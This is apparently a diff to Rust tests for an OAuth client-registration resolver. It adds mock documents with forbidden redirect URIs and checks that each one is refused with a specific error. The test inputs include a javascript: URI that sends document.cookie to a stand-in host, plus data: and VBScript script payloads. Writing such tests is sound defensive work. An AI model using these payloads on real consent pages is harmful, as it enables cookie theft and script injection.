@@ -205,6 +205,20 @@ async fn serve(
             d["token_endpoint_auth_method"] = json!("client_secret_basic");
             d.to_string()
         }
+        // Redirect URIs under the registration rule: the first of each list is fine, the
+        // second breaks it (a javascript: redirect would run in the consent page's origin).
+        p if p.starts_with("/redirect-uri/") => {
+            let bad = match &p["/redirect-uri/".len()..] {
+                "javascript" => "javascript:fetch('//evil.example/'+document.cookie)//",
+                "data" => "data:text/html,<script>alert(1)</script>",
+                "vbscript" => "VBScript:msgbox(1)",
+                "http-remote" => "http://agent.example.test/callback",
+                _ => "com.example.agent:/callback",
+            };
+            let mut d = document(&id);
+            d["redirect_uris"] = json!(["https://agent.example.test/callback", bad]);
+            d.to_string()
+        }
         "/not-json" => "<html>hello</html>".into(),
         "/big" => {
             let mut d = document(&id);
@@ -577,6 +591,17 @@ async fn a_valid_document_becomes_a_public_client() {
             .unwrap(),
         "http://127.0.0.1:5555/callback"
     );
+    // A native app's private-use scheme passes the registration rule.
+    let native = loopback_resolver(&pki, &server)
+        .resolve(&server.url("/redirect-uri/private-use"))
+        .await
+        .unwrap();
+    assert_eq!(
+        native
+            .resolve_redirect_uri(Some("com.example.agent:/callback"))
+            .unwrap(),
+        "com.example.agent:/callback"
+    );
 
     // Trusted domains: exact, and *.suffix for a named host.
     let mut trusted = cfg(&pki, &[format!("127.0.0.1:{}", server.port)]);
@@ -668,6 +693,22 @@ async fn every_broken_document_is_refused_with_the_rule_it_breaks() {
             ),
         ),
         ("/nope", "returned HTTP 404; only 200 is accepted".into()),
+        (
+            "/redirect-uri/javascript",
+            "has an invalid redirect_uris[1]: scheme 'javascript' of".into(),
+        ),
+        (
+            "/redirect-uri/data",
+            "has an invalid redirect_uris[1]: scheme 'data' of".into(),
+        ),
+        (
+            "/redirect-uri/vbscript",
+            "has an invalid redirect_uris[1]: scheme 'vbscript' of".into(),
+        ),
+        (
+            "/redirect-uri/http-remote",
+            "has an invalid redirect_uris[1]: 'http://agent.example.test/callback' is not allowed for application_type 'web'".into(),
+        ),
         ("/not-json", "is not valid JSON".into()),
     ];
     for (path, want) in &cases {
